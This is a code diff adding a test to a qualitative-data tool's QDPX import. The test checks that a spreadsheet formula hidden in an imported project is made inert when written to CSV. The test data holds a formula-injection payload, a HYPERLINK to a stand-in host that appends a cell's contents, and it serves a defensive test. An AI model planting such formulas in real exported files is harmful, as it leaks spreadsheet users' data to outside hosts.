@@ -284,3 +284,30 @@ def test_a_case_without_a_name_holds_document_variables(tmp_path):
     )
     project = qc.read_qdpx(write_qdpx(tmp_path / "p.qdpx", qde(body, origin="MAXQDA 2022")))
     assert project.corpus.documents[0].metadata == {"district": "D07"}
+
+
+def test_an_imported_project_cannot_plant_formulas_in_the_csv_files(tmp_path):
+    """Someone else's project: a case variable and a coded passage that a spreadsheet would
+    run as formulas. The imported CSVs hold them inert (a leading '), and qualcode reads
+    them back as they were."""
+    from xml.sax.saxutils import escape
+
+    formula = '=HYPERLINK("http://x.example/?"&A1,"click")'
+    text = f"P1: {formula} we care."
+    quoted = escape(formula, {'"': "&quot;"})
+    body = (
+        CODES + '<Variables><Variable guid="77777777-7777-7777-7777-777777777777" name="role" typeOfVariable="Text"/>'
+        "</Variables>"
+        '<Cases><Case guid="99999999-9999-9999-9999-999999999999" name="P1">'
+        '<VariableValue><VariableRef targetGUID="77777777-7777-7777-7777-777777777777"/>'
+        f"<TextValue>{quoted}</TextValue></VariableValue>"
+        f'<SourceRef targetGUID="{SOURCE}"/></Case></Cases>'
+        f'<Sources><TextSource guid="{SOURCE}" name="p1"><PlainTextContent>'
+        f"{escape(text)}</PlainTextContent>" + selection(4, 4 + len(formula), CARE) + "</TextSource></Sources>"
+    )
+    folder = qc.save_project(qc.read_qdpx(write_qdpx(tmp_path / "p.qdpx", qde(body))), tmp_path / "imported")
+    for name in ("codings.csv", "participants.csv"):
+        cells = [c for line in (folder / name).read_text(encoding="utf-8").splitlines() for c in line.split(",")]
+        assert not any(cell.lstrip('"').startswith("=") for cell in cells), name
+    assert qc.read_coded(folder / "codings.csv")["text"].iloc[0] == formula
+    assert qc.read_metadata(folder / "participants.csv").loc["p1", "role"] == formula
